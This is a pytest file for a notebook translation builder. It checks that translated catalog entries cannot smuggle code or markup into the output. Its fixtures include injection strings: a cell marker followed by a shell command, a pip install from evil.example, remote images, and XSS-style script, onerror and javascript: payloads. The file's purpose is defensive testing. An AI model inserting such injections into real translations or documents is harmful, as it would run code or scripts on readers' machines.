"""Translations are data: every way a catalog entry could become markup or code is refused, by build and by check.

The injections are the ones the Russian review found passing: a ``%%`` line before a shell command or
``%pip`` (jupytext reads the committed .py back with a code cell there), an image with a title, an
``<img`` split over two lines, a reference-style image with its definition, a bare URL, and a tag
hidden behind ``<!-->``. And a catalog that a translator saves while ``translations --update`` or
``--typography`` runs is never overwritten.
"""

import re

import polib
import pytest

from builder import exits
from builder.translation import markup
from builder.translation.invariants import differences, unsafe
from tests.support import run_builder
from tests.test_authoring import copy, tree  # noqa: F401  (copy is a fixture)

ENGLISH = "Read the [paper](https://arxiv.org/abs/1706.03762) and compute it."
RUSSIAN = "Прочитайте [статью](https://arxiv.org/abs/1706.03762) и вычислите."
INJECTIONS = {
    "shell after a cell marker": ("\n%%\n!touch /tmp/pwned", "code-line"),
    "pip after a cell marker": ("\n%%\n%pip install --index-url https://evil.example/simple pkg", "code-line"),
    "a marker with options": ("\n%% tags=[\"x\"]\nimport os", "code-line"),
    "a one-word question (uncommented in a code cell)": ("\nПочему?", "code-line"),
    "image with a title": (' ![logo](https://evil.example/x.png "t")', "markup"),
    "img tag over two lines": (' <img\nsrc="https://evil.example/x.png">', "markup"),
    "reference-style image": (" ![r][ref]\n\n[ref]: https://evil.example/i.png", "markup"),
    "bare URL": (" см. https://evil.example/x", "markup"),
    "tag behind an empty comment": ('\n<!--><img src="data:," onerror=alert(1)>-->', "markup"),
    "script": (" <script>alert(1)</script>", "markup"),
    "javascript link": (" [docs](javascript:alert(1))", "markup"),
}


@pytest.mark.parametrize("name", INJECTIONS)
def test_each_injection_is_found_and_unsafe(name):
    payload, kind = INJECTIONS[name]
    assert kind in [k for k, _ in differences(ENGLISH, RUSSIAN + payload, "ru")], name
    assert unsafe(ENGLISH, RUSSIAN + payload), name


def test_a_faithful_translation_keeps_its_link_and_is_safe():
    assert differences(ENGLISH, RUSSIAN, "ru") == [] and not unsafe(ENGLISH, RUSSIAN)
    # the English's own markup, with its words translated, is not added markup
    assert not unsafe("<details><summary>Answer</summary>\n\nIt is $O(n)$.", "<details><summary>Ответ</summary>\n\nЭто $O(n)$.")


def test_markup_items_come_from_the_parser():
    found = markup.items('![a](u1 "t") [b](u2) <https://u3> http://u4 <img\nsrc="u5">\n\n[r]: u6')
    assert found == (("image", 'u1 "t"'), ("link", "u2"), ("link", "https://u3"), ("link", "http://u4"),
                     ("tag", '<img src="u5">'), ("link", "u6"))
    assert markup.items("$a<b$ and `<b>` are no tags") == ()


def test_code_lines_are_jupytext_markers_and_magics():
    assert markup.code_lines("обычная строка\nещё одна, с вопросом?") == []
    assert len(markup.code_lines("%%\n%pip install x\n!ls\n%% [markdown]\ncd папка")) == 5
    assert markup.code_lines("# %% stays a heading: written as '# # %%', jupytext reads it as text") == []


def _entry(root, nb, exercise: bool) -> tuple[polib.POFile, polib.POEntry]:
    """The notebook's Russian catalog and its first translated exercise (or prose) entry."""
    catalog = polib.pofile(str(nb.translated("ru").catalog), wrapwidth=0)
    wanted = (lambda e: e.msgctxt.startswith("Exercise")) if exercise else (lambda e: "¶" in e.msgctxt and not e.msgid.startswith(("#", "|")))
    return catalog, next(e for e in catalog if e.msgstr and not e.obsolete and e.msgctxt and wanted(e))


@pytest.mark.slow  # builds and checks a repository copy per injection
@pytest.mark.parametrize("exercise", [True, False], ids=["exercise", "prose"])
@pytest.mark.parametrize("name", [n for n in INJECTIONS if n not in ("script", "javascript link")])
def test_build_and_check_refuse_each_injection_with_the_catalogs_line(copy, name, exercise):  # noqa: F811
    root, nb = copy
    payload, kind = INJECTIONS[name]
    catalog, entry = _entry(root, nb, exercise)
    entry.msgstr = entry.msgstr.split("\n")[0] + payload
    nb.translated("ru").catalog.write_text(str(catalog), encoding="utf-8")
    line = polib.pofile(str(nb.translated("ru").catalog), wrapwidth=0).find(entry.msgid, msgctxt=entry.msgctxt).linenum
    where = re.compile(rf"translations/ru/{nb.name}\.po\((\d+)\): {kind}:")
    before = tree(root)
    built = run_builder(root, "build")
    found = where.search(built.stderr)
    assert built.returncode == exits.MALFORMED and found and 0 <= line - int(found.group(1)) < 40, (line, built.stderr)
    assert tree(root) == before
    checked = run_builder(root, "check")
    assert checked.returncode != exits.OK and where.search(checked.stdout + checked.stderr), checked.stdout + checked.stderr


@pytest.mark.slow  # builds a repository copy
def test_the_read_back_refuses_an_edition_whose_py_is_another_notebook(copy, monkeypatch):  # noqa: F811
    """With the per-line check switched off, reading each written .py back with jupytext still refuses the marker."""
    from builder.translation import invariants

    root, nb = copy
    monkeypatch.setattr(invariants, "line_breaks", lambda english, translation: [])
    catalog, entry = _entry(root, nb, exercise=False)
    entry.msgstr = entry.msgstr.split("\n")[0] + "\n%%\n!touch /tmp/pwned"
    nb.translated("ru").catalog.write_text(str(catalog), encoding="utf-8")
    before = tree(root)
    built = run_builder(root, "build")
    assert built.returncode == exits.MALFORMED and "read-back: cell" in built.stderr, built.stderr
    assert tree(root) == before
    checked = run_builder(root, "check")
    assert checked.returncode != exits.OK and f"notebooks/ru/{nb.name}.py(1): read-back: cell" in checked.stdout + checked.stderr


@pytest.mark.slow  # runs translations on a repository copy
@pytest.mark.parametrize("option", ["--update", "--typography"])
def test_a_catalog_saved_while_translations_runs_is_never_overwritten(copy, monkeypatch, option):  # noqa: F811
    from builder.translation import catalog as po
    from builder.translation import lint

    root, nb = copy
    path = nb.translated("ru").catalog
    saved = path.read_text(encoding="utf-8") + '\n#~ msgid "saved by the translator meanwhile"\n#~ msgstr "сохранено"\n'
    module, name = (po, "merge") if option == "--update" else (lint, "typeset")
    real = getattr(module, name)

    def and_save(*args, **kwargs):  # the translator saves while the command runs; the command has its own change to write
        path.write_text(saved, encoding="utf-8")
        result = real(*args, **kwargs)
        return result + " " if isinstance(result, str) else result

    monkeypatch.setattr(module, name, and_save)
    ran = run_builder(root, "translations", option)
    assert ran.returncode == exits.HAND_EDIT and "changed on disk" in ran.stderr, ran.stdout + ran.stderr
    assert path.read_text(encoding="utf-8") == saved
